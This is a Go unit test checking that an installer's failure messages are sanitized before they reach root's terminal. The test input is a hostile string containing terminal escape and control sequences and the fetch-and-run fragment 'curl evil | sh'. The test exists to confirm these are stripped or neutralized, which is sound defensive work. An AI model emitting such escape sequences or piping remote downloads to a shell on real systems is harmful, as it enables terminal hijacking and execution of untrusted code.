package main

import (
	"bytes"
	"errors"
	"strings"
	"testing"
)

// exitCodeError is an error that chooses its exit code.
type exitCodeError struct{ msg string }

func (e exitCodeError) Error() string { return e.msg }
func (e exitCodeError) ExitCode() int { return exitTransfer }

// Whatever a failure's text holds (a Core's or the service account's
// words among it), root's terminal gets it through the sanitizer: no
// escape, OSC or C1 sequence, newlines and tabs kept.
func TestFailuresReachTheTerminalSanitized(t *testing.T) {
	hostile := "Core says \x1b]0;owned\a\x1b[2J\u009b31m red\r\nnext:\tcurl evil | sh"
	for _, err := range []error{errors.New(hostile), exitCodeError{hostile}} {
		var out bytes.Buffer
		code := failure{prefix: prefixInstall, path: "oac-node-install", changing: true}.report(&out, err, nil)
		if code == exitOK {
			t.Fatalf("exit %d", code)
		}
		got := out.String()
		if strings.ContainsAny(got, "\x1b\a\r\u009b") {
			t.Errorf("terminal controls reached the terminal: %q", got)
		}
		if !strings.HasPrefix(got, prefixInstall+"Core says ") || !strings.Contains(got, "\nnext:\tcurl") {
			t.Errorf("the text is not kept around the controls: %q", got)
		}
	}
}
